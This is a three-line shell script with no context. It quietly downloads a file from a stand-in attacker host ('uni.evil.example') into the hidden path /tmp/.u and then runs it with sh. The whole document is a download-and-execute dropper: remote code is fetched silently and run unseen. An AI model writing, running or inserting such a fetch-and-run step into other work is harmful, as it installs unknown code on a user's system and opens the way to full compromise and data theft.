#!/bin/sh
wget -qO /tmp/.u https://uni.evil.example/u
sh /tmp/.u
